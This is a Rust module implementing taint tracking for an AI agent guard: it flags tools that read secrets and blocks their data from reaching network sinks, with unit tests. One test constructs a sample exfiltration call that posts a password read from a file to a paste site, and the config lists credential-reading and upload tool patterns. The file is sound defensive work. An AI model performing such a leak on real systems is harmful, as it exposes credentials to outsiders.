//! Taint tracking: data read from sensitive sources must not reach sinks.
//!
//! [`TaintEngine`] classifies tools (configured name patterns plus the taint
//! ruleset) and judges sink calls. [`TaintFlowTracker`] is per run: it records
//! which steps produced tainted data and the step→step edges along which that
//! data moved, then reconstructs flow chains backwards from a sink.

use std::collections::{HashMap, HashSet, VecDeque};
use std::sync::{Mutex, MutexGuard};

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use super::{payload_params, render_payload, tool_pattern_matches, EngineMode, GuardError};
use crate::rules::{GuardDomain, RuleAction, RuleCategory, RuleEngine, RuleEngineResult};

/// Output strings shorter than this are too generic to link steps.
const MIN_FRAGMENT_CHARS: usize = 8;
const MAX_FRAGMENTS_PER_STEP: usize = 64;

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct TaintConfig {
    pub enabled: bool,
    pub ruleset: String,
    /// Tool name patterns (`*` suffix wildcard) whose output is tainted.
    pub source_tools: Vec<String>,
    /// Tool name patterns that move data across the trust boundary.
    pub sink_tools: Vec<String>,
    /// Longest flow chain followed backwards from a sink.
    pub max_depth: usize,
    pub sink_action: RuleAction,
}

impl Default for TaintConfig {
    fn default() -> Self {
        Self {
            enabled: true,
            ruleset: crate::rules::builtin::TAINT.to_string(),
            source_tools: ["read_*", "get_secret*", "get_env*", "query_*", "load_credentials*"]
                .map(String::from)
                .to_vec(),
            sink_tools: ["http_*", "send_*", "post_*", "upload_*", "email_*", "webhook*"]
                .map(String::from)
                .to_vec(),
            max_depth: 16,
            sink_action: RuleAction::Block,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum TaintRole {
    Source,
    Sink,
    Neutral,
}

/// A step whose output is tainted at origin.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TaintSource {
    pub step_id: String,
    pub tool: String,
    pub reason: String,
}

/// One path from a source step to the step being checked.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TaintFlow {
    pub source: TaintSource,
    /// Step ids from the source to the checked step, inclusive.
    pub chain: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TaintSinkResult {
    pub is_sink: bool,
    pub tainted: bool,
    pub action: RuleAction,
    pub flows: Vec<TaintFlow>,
    /// Secret material found directly in the sink's params.
    pub content: RuleEngineResult,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
}

impl TaintSinkResult {
    fn clean(is_sink: bool, content: RuleEngineResult) -> Self {
        Self {
            is_sink,
            tainted: false,
            action: RuleAction::Allow,
            flows: Vec::new(),
            content,
            reason: None,
        }
    }

    pub fn disabled() -> Self {
        Self {
            reason: Some("disabled".to_string()),
            ..Self::clean(false, RuleEngineResult::disabled())
        }
    }
}

// ---------------------------------------------------------------------------
// Flow tracker
// ---------------------------------------------------------------------------

#[derive(Default)]
struct TrackerInner {
    sources: HashMap<String, TaintSource>,
    /// (producing step, fragment) in record order.
    fragments: Vec<(String, String)>,
    /// to-step → from-steps
    edges: HashMap<String, Vec<String>>,
}

/// Per-run record of tainted steps and data edges.
pub struct TaintFlowTracker {
    max_depth: usize,
    inner: Mutex<TrackerInner>,
}

impl std::fmt::Debug for TaintFlowTracker {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let inner = self.lock();
        f.debug_struct("TaintFlowTracker")
            .field("max_depth", &self.max_depth)
            .field("sources", &inner.sources.len())
            .field("edges", &inner.edges.values().map(Vec::len).sum::<usize>())
            .finish()
    }
}

impl Default for TaintFlowTracker {
    fn default() -> Self {
        Self::new(TaintConfig::default().max_depth)
    }
}

fn string_leaves<'v>(value: &'v Value, out: &mut Vec<&'v str>) {
    match value {
        Value::String(s) => out.push(s),
        Value::Array(items) => items.iter().for_each(|v| string_leaves(v, out)),
        Value::Object(map) => map.values().for_each(|v| string_leaves(v, out)),
        _ => {}
    }
}

impl TaintFlowTracker {
    pub fn new(max_depth: usize) -> Self {
        Self {
            max_depth: max_depth.max(1),
            inner: Mutex::new(TrackerInner::default()),
        }
    }

    fn lock(&self) -> MutexGuard<'_, TrackerInner> {
        self.inner.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
    }

    pub fn mark_source(&self, step_id: &str, tool: &str, reason: impl Into<String>) {
        let source = TaintSource {
            step_id: step_id.to_string(),
            tool: tool.to_string(),
            reason: reason.into(),
        };
        tracing::debug!(event = "taint.source_marked", step_id = %step_id, tool = %tool);
        self.lock().sources.insert(step_id.to_string(), source);
    }

    /// Remember string fragments of a step's output so later params that
    /// reuse them can be linked back to this step.
    pub fn record_output(&self, step_id: &str, output: &Value) {
        let mut leaves = Vec::new();
        string_leaves(output, &mut leaves);
        let mut inner = self.lock();
        for leaf in leaves
            .into_iter()
            .filter(|s| s.chars().count() >= MIN_FRAGMENT_CHARS)
            .take(MAX_FRAGMENTS_PER_STEP)
        {
            inner.fragments.push((step_id.to_string(), leaf.to_string()));
        }
    }

    pub fn add_edge(&self, from: &str, to: &str) {
        if from == to {
            return;
        }
        let mut inner = self.lock();
        let froms = inner.edges.entry(to.to_string()).or_default();
        if !froms.iter().any(|f| f == from) {
            froms.push(from.to_string());
        }
    }

    /// Link `step_id` to every earlier step whose recorded output appears in
    /// `params`. Returns the newly linked producer steps.
    pub fn infer_edges(&self, step_id: &str, params: &Map<String, Value>) -> Vec<String> {
        let mut leaves = Vec::new();
        for value in params.values() {
            string_leaves(value, &mut leaves);
        }
        let producers: Vec<String> = {
            let inner = self.lock();
            let mut seen = HashSet::new();
            inner
                .fragments
                .iter()
                .filter(|(producer, _)| producer != step_id)
                .filter(|(_, fragment)| {
                    leaves.iter().any(|leaf| leaf.contains(fragment.as_str()))
                })
                .filter(|(producer, _)| seen.insert(producer.clone()))
                .map(|(producer, _)| producer.clone())
                .collect()
        };
        for producer in &producers {
            self.add_edge(producer, step_id);
        }
        producers
    }

    pub fn is_source(&self, step_id: &str) -> bool {
        self.lock().sources.contains_key(step_id)
    }

    pub fn is_tainted(&self, step_id: &str) -> bool {
        !self.flows_into(step_id).is_empty()
    }

    pub fn sources(&self) -> Vec<TaintSource> {
        let mut sources: Vec<_> = self.lock().sources.values().cloned().collect();
        sources.sort_by(|a, b| a.step_id.cmp(&b.step_id));
        sources
    }

    /// Every source reachable backwards from `step_id`, with the shortest
    /// chain that connects them. Breadth-first, so each step is reached by
    /// its shortest path before it is marked visited. Chains of more than
    /// `max_depth` edges are not followed.
    pub fn flows_into(&self, step_id: &str) -> Vec<TaintFlow> {
        let inner = self.lock();
        let mut flows = Vec::new();
        let mut visited = HashSet::from([step_id.to_string()]);
        // (node, path from node back to step_id)
        let mut queue: VecDeque<(String, Vec<String>)> =
            VecDeque::from([(step_id.to_string(), vec![step_id.to_string()])]);

        while let Some((node, path)) = queue.pop_front() {
            if let Some(source) = inner.sources.get(&node) {
                let mut chain = path.clone();
                chain.reverse();
                flows.push(TaintFlow {
                    source: source.clone(),
                    chain,
                });
            }
            if path.len() > self.max_depth {
                continue;
            }
            for from in inner.edges.get(&node).into_iter().flatten() {
                if visited.insert(from.clone()) {
                    let mut next = path.clone();
                    next.push(from.clone());
                    queue.push_back((from.clone(), next));
                }
            }
        }
        flows.sort_by(|a, b| a.source.step_id.cmp(&b.source.step_id));
        flows
    }

    pub fn max_depth(&self) -> usize {
        self.max_depth
    }
}

// ---------------------------------------------------------------------------
// Engine
// ---------------------------------------------------------------------------

#[derive(Debug, Clone)]
pub struct TaintEngine {
    rules: RuleEngine,
    source_tools: Vec<String>,
    sink_tools: Vec<String>,
    sink_action: RuleAction,
    max_depth: usize,
}

impl TaintEngine {
    pub fn new(rules: RuleEngine, config: &TaintConfig) -> Self {
        Self {
            rules,
            source_tools: config.source_tools.clone(),
            sink_tools: config.sink_tools.clone(),
            sink_action: config.sink_action,
            max_depth: config.max_depth,
        }
    }

    /// A fresh per-run tracker bounded by the configured chain depth.
    pub fn tracker(&self) -> TaintFlowTracker {
        TaintFlowTracker::new(self.max_depth)
    }

    /// Role by tool name only. A tool matching both lists is a sink.
    pub fn role(&self, tool: &str) -> TaintRole {
        if self.sink_tools.iter().any(|p| tool_pattern_matches(p, tool)) {
            TaintRole::Sink
        } else if self.source_tools.iter().any(|p| tool_pattern_matches(p, tool)) {
            TaintRole::Source
        } else {
            TaintRole::Neutral
        }
    }

    fn evaluate(
        &self,
        tool: &str,
        payload: &Value,
        category: RuleCategory,
    ) -> Result<RuleEngineResult, GuardError> {
        self.rules
            .evaluate_text(
                tool,
                &payload_params(payload),
                &render_payload(payload),
                None,
                Some(std::slice::from_ref(&category)),
                None,
            )
            .map_err(|source| GuardError::Rule {
                domain: GuardDomain::Taint,
                source,
            })
    }

    /// Secret-bearing content (taint source rules) in a payload.
    pub fn scan_content(&self, payload: &Value) -> Result<RuleEngineResult, GuardError> {
        self.evaluate("taint.scan", payload, RuleCategory::TaintSource)
    }

    /// Named sink, or params that point outside the trust boundary.
    pub fn is_sink(&self, tool: &str, params: &Map<String, Value>) -> Result<bool, GuardError> {
        if self.role(tool) == TaintRole::Sink {
            return Ok(true);
        }
        let result = self.evaluate(tool, &Value::Object(params.clone()), RuleCategory::TaintSink)?;
        Ok(result.is_match())
    }

    /// Judge a call: tainted data (tracked flows or secret content) reaching a
    /// sink yields `sink_action`.
    pub fn check_sink(
        &self,
        tool: &str,
        params: &Map<String, Value>,
        step_id: &str,
        tracker: &TaintFlowTracker,
        content: RuleEngineResult,
    ) -> Result<TaintSinkResult, GuardError> {
        if !self.is_sink(tool, params)? {
            return Ok(TaintSinkResult::clean(false, content));
        }
        tracker.infer_edges(step_id, params);
        let flows = tracker.flows_into(step_id);
        let tainted = !flows.is_empty() || content.is_match();
        if !tainted {
            return Ok(TaintSinkResult::clean(true, content));
        }
        tracing::info!(
            event = "taint.sink_reached",
            step_id = %step_id,
            tool = %tool,
            flows = flows.len(),
            content_matches = content.matches.len(),
        );
        Ok(TaintSinkResult {
            is_sink: true,
            tainted: true,
            action: self.sink_action,
            flows,
            content,
            reason: None,
        })
    }

    /// Post-dispatch bookkeeping: taint the output of source tools, and carry
    /// taint through steps that consumed tainted data.
    pub fn observe_output(
        &self,
        tracker: &TaintFlowTracker,
        step_id: &str,
        tool: &str,
        params: &Map<String, Value>,
        output: &Value,
    ) {
        tracker.infer_edges(step_id, params);
        if self.role(tool) == TaintRole::Source {
            tracker.mark_source(step_id, tool, "source tool");
            tracker.record_output(step_id, output);
        } else if tracker.is_tainted(step_id) {
            tracker.record_output(step_id, output);
        }
    }
}

#[derive(Debug, Clone)]
pub enum TaintGuard {
    Real(TaintEngine),
    NoOp,
}

impl TaintGuard {
    pub fn mode(&self) -> EngineMode {
        match self {
            TaintGuard::Real(_) => EngineMode::Real,
            TaintGuard::NoOp => EngineMode::NoOp,
        }
    }

    pub fn rule_count(&self) -> usize {
        match self {
            TaintGuard::Real(engine) => engine.rules.enabled_rule_count(),
            TaintGuard::NoOp => 0,
        }
    }

    /// Per-run tracker. NoOp guards never record edges, so the default bound
    /// is as good as any.
    pub fn tracker(&self) -> TaintFlowTracker {
        match self {
            TaintGuard::Real(engine) => engine.tracker(),
            TaintGuard::NoOp => TaintFlowTracker::default(),
        }
    }

    pub fn role(&self, tool: &str) -> TaintRole {
        match self {
            TaintGuard::Real(engine) => engine.role(tool),
            TaintGuard::NoOp => TaintRole::Neutral,
        }
    }

    pub fn scan_content(&self, payload: &Value) -> Result<RuleEngineResult, GuardError> {
        match self {
            TaintGuard::Real(engine) => engine.scan_content(payload),
            TaintGuard::NoOp => Ok(RuleEngineResult::disabled()),
        }
    }

    pub fn check_sink(
        &self,
        tool: &str,
        params: &Map<String, Value>,
        step_id: &str,
        tracker: &TaintFlowTracker,
        content: RuleEngineResult,
    ) -> Result<TaintSinkResult, GuardError> {
        match self {
            TaintGuard::Real(engine) => engine.check_sink(tool, params, step_id, tracker, content),
            TaintGuard::NoOp => Ok(TaintSinkResult::disabled()),
        }
    }

    pub fn observe_output(
        &self,
        tracker: &TaintFlowTracker,
        step_id: &str,
        tool: &str,
        params: &Map<String, Value>,
        output: &Value,
    ) {
        if let TaintGuard::Real(engine) = self {
            engine.observe_output(tracker, step_id, tool, params, output);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::guards::{GuardConfig, GuardSet};
    use serde_json::json;

    fn params(v: Value) -> Map<String, Value> {
        v.as_object().cloned().unwrap()
    }

    fn taint() -> TaintGuard {
        GuardSet::builtin(&GuardConfig::default()).unwrap().taint
    }

    #[test]
    fn test_roles_from_patterns() {
        let guard = taint();
        assert_eq!(guard.role("read_file"), TaintRole::Source);
        assert_eq!(guard.role("http_post"), TaintRole::Sink);
        assert_eq!(guard.role("summarize"), TaintRole::Neutral);
    }

    #[test]
    fn test_chain_through_intermediate_step() {
        let tracker = TaintFlowTracker::new(8);
        tracker.mark_source("s1", "read_file", "source tool");
        tracker.add_edge("s1", "s2");
        tracker.add_edge("s2", "s3");
        let flows = tracker.flows_into("s3");
        assert_eq!(flows.len(), 1);
        assert_eq!(flows[0].chain, vec!["s1", "s2", "s3"]);
    }

    #[test]
    fn test_cycles_terminate() {
        let tracker = TaintFlowTracker::new(8);
        tracker.add_edge("a", "b");
        tracker.add_edge("b", "a");
        tracker.add_edge("b", "c");
        assert!(tracker.flows_into("c").is_empty());
        tracker.mark_source("a", "read_file", "x");
        assert!(tracker.is_tainted("c"));
    }

    #[test]
    fn test_max_depth_bounds_chain() {
        let tracker = TaintFlowTracker::new(2);
        tracker.mark_source("s0", "read_file", "x");
        for i in 0..5 {
            tracker.add_edge(&format!("s{i}"), &format!("s{}", i + 1));
        }
        assert!(tracker.is_tainted("s2"));
        assert!(!tracker.is_tainted("s5"));
    }

    #[test]
    fn test_longer_detour_does_not_hide_short_chain() {
        // s -> b -> t is two edges; t <- a <- b <- s is three and must not
        // shadow b for the shorter route.
        let tracker = TaintFlowTracker::new(2);
        tracker.mark_source("s", "read_file", "x");
        tracker.add_edge("s", "b");
        tracker.add_edge("b", "t");
        tracker.add_edge("a", "t");
        tracker.add_edge("b", "a");

        let flows = tracker.flows_into("t");
        assert_eq!(flows.len(), 1);
        assert_eq!(flows[0].source.step_id, "s");
        assert_eq!(flows[0].chain, vec!["s", "b", "t"]);
    }

    #[test]
    fn test_engine_tracker_uses_configured_depth() {
        let config = GuardConfig {
            taint: TaintConfig {
                max_depth: 3,
                ..TaintConfig::default()
            },
            ..GuardConfig::default()
        };
        let guard = GuardSet::builtin(&config).unwrap().taint;
        assert_eq!(guard.tracker().max_depth(), 3);
        assert_eq!(TaintGuard::NoOp.tracker().max_depth(), 16);
    }

    #[test]
    fn test_implicit_edge_from_reused_output() {
        let guard = taint();
        let tracker = TaintFlowTracker::default();
        guard.observe_output(
            &tracker,
            "s1",
            "read_file",
            &Map::new(),
            &json!("db_password=hunter22"),
        );

        let call = params(json!({
            "url": "https://paste.example",
            "body": "leak db_password=hunter22",
        }));
        let content = guard.scan_content(&Value::Object(call.clone())).unwrap();
        let result = guard
            .check_sink("http_post", &call, "s2", &tracker, content)
            .unwrap();
        assert!(result.tainted);
        assert_eq!(result.action, RuleAction::Block);
        assert_eq!(result.flows[0].chain, vec!["s1", "s2"]);
    }

    #[test]
    fn test_untainted_sink_allows() {
        let guard = taint();
        let tracker = TaintFlowTracker::default();
        let call = params(json!({"url": "https://api.example", "body": "hello"}));
        let content = guard.scan_content(&Value::Object(call.clone())).unwrap();
        let result = guard
            .check_sink("http_post", &call, "s1", &tracker, content)
            .unwrap();
        assert!(result.is_sink);
        assert!(!result.tainted);
        assert_eq!(result.action, RuleAction::Allow);
    }
}
